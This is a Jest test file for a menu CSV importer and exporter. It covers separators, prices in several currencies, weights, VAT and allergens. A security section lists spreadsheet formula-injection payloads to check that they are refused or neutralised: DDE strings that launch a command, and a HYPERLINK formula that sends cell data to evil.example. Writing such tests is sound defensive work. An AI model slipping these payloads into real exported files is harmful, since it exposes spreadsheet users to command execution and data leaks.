/**
 * @group security
 * @rule SPEC-389 SPEC-445
 */
import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { csvText, keyOfName, readMenuCsv } from "./menu-csv";

const german = {
  language: "de",
  currencies: new Map([
    ["porto", { code: "EUR", symbol: "€" }],
    ["bern", { code: "CHF", symbol: "Fr." }],
  ]),
};

const rowOf = (text: string) => {
  const { products, faults } = readMenuCsv("menu.csv", text, german);
  expect(faults).toEqual([]);
  return products[0];
};

describe("a menu as a spreadsheet", () => {
  it.each([
    ["semicolons and a decimal comma", "group;name;description;picture;price\nsuppe;Brühe;Klar;/b.avif;4,50"],
    ["commas and a decimal point", "group,name,description,picture,price\nsuppe,Brühe,Klar,/b.avif,4.50"],
    [
      "tabs, a mark at the beginning and empty lines",
      "\uFEFFGroup\tName\tDescription\tPicture\tPrice\r\n\r\nsuppe\tBrühe\tKlar\t/b.avif\t4,5\r\n",
    ],
  ])("is read with %s", (_, text) => {
    expect(rowOf(text)).toMatchObject({
      group: "suppe",
      product: { key: "bruhe", name: "Brühe", description: "Klar", price: 4.5 },
    });
  });

  it("has prices by city, texts by language, and figures as people write them", () => {
    const header =
      "group;key;name;name:en;description;picture;price;old_price;price:porto;old_price:porto;weight;proteins;fats;carbohydrates;calories;allergens;vegetarian;modifiers";
    const row = 'suppe;bruehe;"Brühe; klar";Broth;Klar;/b.avif;1 234,50;;3;4;0,33 l;1,5;2;3;40;none;yes;salz pfeffer';
    expect(rowOf(`${header}\n${row}`)?.product).toMatchObject({
      name: { de: "Brühe; klar", en: "Broth" },
      price: 1234.5,
      old_price: null,
      prices: { porto: { price: 3, old_price: 4 } },
      weight: { value: 330, unit: "ml" },
      nutrition: { proteins: 1.5, fats: 2, carbohydrates: 3, calories: 40 },
      allergens: [],
      vegetarian: true,
      modifiers: ["salz", "pfeffer"],
    });
  });

  it("has prices by order type, and products that are sold for one order type alone", () => {
    const header =
      "group;name;description;picture;price;price:takeaway;old_price:takeaway;price:porto:delivery;order_types";
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;5;4,50;5;6;`)?.product).toMatchObject({
      price: 5,
      prices: {},
      order_types: {
        takeaway: { price: 4.5, old_price: 5, prices: {} },
        delivery: { price: null, prices: { porto: { price: 6 } } },
      },
    });
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;5;;;;takeaway`)?.product.order_types).toEqual({ delivery: null });
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;5;;;;delivery takeaway`)?.product.order_types).toEqual({});
  });

  it("names the VAT rate of a dish, also with a capital letter, and none where the cell is empty (SPEC-530)", () => {
    const header = "group;name;description;picture;price;vat";
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;5;Reduced`)?.product.vat).toBe("reduced");
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;5;`)?.product.vat).toBeNull();
    expect(readMenuCsv("menu.csv", `${header}\nsuppe;Brühe;Klar;/b.avif;5;7 %`, german).faults).toEqual([
      expect.objectContaining({ line: 2, problem: expect.stringMatching(/^vat: /) }),
    ]);
  });

  it("says nothing of what nobody has written", () => {
    const text = "group;name;description;picture;price;allergens;vegetarian\nsuppe;Brühe;Klar;/b.avif;1;;";
    expect(rowOf(text)?.product).toMatchObject({ allergens: null, vegetarian: null, nutrition: null });
  });

  it("may begin the words of the format with a capital letter, as spreadsheets do", () => {
    const text =
      "group;name;description;picture;price;allergens;vegetarian;order_types;accent\nsuppe;Brühe;Klar;/b.avif;1;Celery, Milk;Yes;Takeaway;New";
    expect(rowOf(text)?.product).toMatchObject({
      allergens: ["celery", "milk"],
      vegetarian: true,
      order_types: { delivery: null },
      accent: "new",
    });
    expect(rowOf(text.replace("Celery, Milk", "None"))?.product.allergens).toEqual([]);
  });

  it("has amounts with the currency of the city that they are for", () => {
    const header = "group;name;description;picture;price:porto;price:bern;weight";
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;12,50 €;CHF 1’234.50;0,250 kg`)).toMatchObject({
      product: {
        prices: { porto: { price: 12.5 }, bern: { price: 1234.5 } },
        weight: { value: 250, unit: "g" },
      },
    });
    expect(rowOf(`${header};price\nsuppe;Brühe;Klar;/b.avif;€ 4.9900;3;;7`)).toMatchObject({
      product: { price: 7, prices: { porto: { price: 4.99 } } },
    });
  });

  it.each([
    ["BYN", "Br", "12,50 руб.", 0],
    ["BYN", "Br", "р. 12,50", 0],
    ["BYN", "руб.", "12,50 руб.", 0],
    ["BYN", "Br", "12,50 ₽", 1],
    ["RUB", "₽", "12,50 руб.", 0],
    ["RUB", "₽", "12,50 Br", 1],
    ["BRL", "R$", "R$ 12,50", 0],
    ["BRL", "R$", "A$ 12,50", 1],
    ["USD", "$", "US$ 12.50", 0],
    ["USD", "$", "R$ 12,50", 1],
    ["AUD", "$", "A$12.50", 0],
    ["HKD", "HK$", "HK$12.50", 0],
    ["TWD", "NT$", "NT$12.50", 0],
    ["NIO", "C$", "C$ 12.50", 0],
  ])("of a city in %s, %s, has a price written %s: %d faults", (code, symbol, cell, count) => {
    const text = `group;name;description;picture;price\nsuppe;Brühe;Klar;/b.avif;${cell}`;
    const known = { language: "de", currencies: new Map([["city", { code, symbol }]]) };
    const { products, faults } = readMenuCsv("menu.csv", text, known);
    expect(faults).toHaveLength(count);
    expect(products.map(({ product }) => product.price)).toEqual(count === 0 ? [12.5] : []);
  });

  it.each([
    ["1,500", "price: 1,500 may be 1.5 or 1500"],
    ["12.500", "price: 12.500 may be 12.5 or 12500"],
    ["5-", "price: is not understood: 5-"],
    ["1.2.3", "price: is not understood: 1.2.3"],
    ["4.9999", "price: 4.9999 has more than 2 decimals"],
    ["-2", "price: -2 is below 0"],
    ["12 €", "price: is not in the currency of its city: 12 €"],
  ])("refuses a price written %s", (cell, problem) => {
    const text = `group;name;description;picture;price\nsuppe;Brühe;Klar;/b.avif;${cell}`;
    const { products, faults } = readMenuCsv("menu.csv", text, german);
    expect(products).toEqual([]);
    expect(faults.map((fault) => fault.problem)).toEqual([problem]);
  });

  it("refuses weights and figures that may be two", () => {
    const text =
      "group;name;description;picture;price;weight;calories;proteins;fats;carbohydrates\nsuppe;A;x;/a.avif;1;1,500 kg;1.200;1;1;1";
    expect(readMenuCsv("menu.csv", text, german).faults.map(({ problem, remedy }) => [problem, remedy])).toEqual([
      ["weight: 1,500 kg may be 1.5 or 1500", "write 1.5 or 1500, with nothing between thousands"],
      ["calories: 1.200 may be 1.2 or 1200", "write 1.2 or 1200, with nothing between thousands"],
    ]);
  });

  it("names the column of a price for one city or order type that is no number", () => {
    const text =
      "group;name;description;picture;price;price:porto;price:takeaway;calories\nsuppe;Brühe;Klar;/b.avif;1;ask;1 $;many";
    expect(readMenuCsv("menu.csv", text, german).faults.map(({ problem }) => problem)).toEqual([
      "price:porto: is not understood: ask",
      "calories: is not understood: many",
      "price:takeaway: is not in the currency of its city: 1 $",
    ]);
  });

  it("is reported with the line of the file, whatever cells contain", () => {
    const text = 'group;name;description;picture;price\nsuppe;A;"two\nlines";/a.avif;1\nsuppe;B;x;/b.avif;-2';
    expect(readMenuCsv("menu.csv", text, german).faults).toMatchObject([{ line: 4 }]);
  });

  /** https://owasp.org/www-community/attacks/CSV_Injection and https://book.hacktricks.xyz/pentesting-web/formula-csv-doc-latex-ghostscript-injection */
  const formulas = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"Error")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-B2",
    "+$A$1*2",
    "-SUM(A1:A9)",
    "-1-1",
    "=IMPORTXML(CONCAT(A1),B1)",
    "＝1+1",
    "＠SUM(1)",
  ];
  const csvOf = (description: string): string =>
    `group;name;description;picture;price\nsuppe;A;${description};/a.avif;1`;
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

  it.each(formulas)("does not take the formula %s for a text, unless an apostrophe says so", (text) => {
    expect(readMenuCsv("menu.csv", csvOf(quoted(text)), german).faults).toMatchObject([{ line: 2 }]);
    expect(rowOf(csvOf(quoted(`'${text}`)))?.product.description).toBe(text);
  });

  it.each(["-50 % on Mondays", "+ Käse", "- Cola (0,5 l)", "-18", "+1", "— mit Dill", "'s Gravenhage", "a=b"])(
    "takes the words %s for what they are",
    (text) => expect(rowOf(csvOf(text))?.product.description).toBe(text),
  );

  it("is written so that no spreadsheet reckons, and read back as it was", () => {
    const sign = fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "\t",
      "\r",
      "'",
      "＝",
      "＋",
      "－",
      "＠",
      ";",
      '"',
      "\n",
      " ",
      "1",
      "x",
      "|",
      "!",
    );
    const written = (text: string) =>
      csvText(
        ["group", "name", "description", "picture", "price"],
        [{ group: "suppe", name: "A", description: text, picture: "/a.avif", price: "-1" }],
      );
    fc.assert(
      fc.property(
        fc.string({ unit: fc.oneof(sign, fc.string({ minLength: 1, maxLength: 1 })), minLength: 1, maxLength: 12 }),
        (text) => {
          const [cell = ""] = /(?<=suppe;A;)(?:"(?:[^"]|"")*"|[^;]*)/.exec(written(text)) ?? [];
          const shown = cell.replace(/^"/, "");
          const isNumber = /^[+-][\d.,]+$/.test(text);
          const isInert = isNumber || !/^[=+\-@\t\r＝＋－＠]/.test(shown);
          const { products } = readMenuCsv("menu.csv", written(text).replace(/;-1\n$/, ";1\n"), german);
          return isInert && products[0]?.product.description === text;
        },
      ),
      { numRuns: 1_000 },
    );
    expect(written("x")).toContain(";-1\n");
  });

  it("makes keys of names", () => {
    const names = ["Tacos al Pastor", "  Café-Crème! ", "Пельмени", "Щедрий борщ", "Straße", "Ispanaklı", "O‘zbek osh"];
    expect(names.map(keyOfName)).toEqual([
      "tacos-al-pastor",
      "cafe-creme",
      "pelmeni",
      "shchedrii-borshch",
      "strasse",
      "ispanakli",
      "ozbek-osh",
    ]);
  });
});
